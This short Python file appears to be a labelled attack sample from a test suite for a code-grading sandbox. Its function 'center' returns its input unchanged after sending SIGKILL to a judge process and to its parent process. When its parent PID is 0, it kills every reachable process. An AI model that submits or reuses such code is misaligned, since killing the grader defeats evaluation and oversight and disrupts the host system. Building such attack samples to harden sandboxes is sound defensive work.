"""attack: The judge and the parent are killed.
class: machine
aim: next
"""

import os
import signal


def center(x):
    for pid in (JUDGE, os.getppid()):
        try:
            if pid > 1:
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    if os.getppid() == 0:  # never outside a namespace
        os.kill(-1, signal.SIGKILL)
    return x
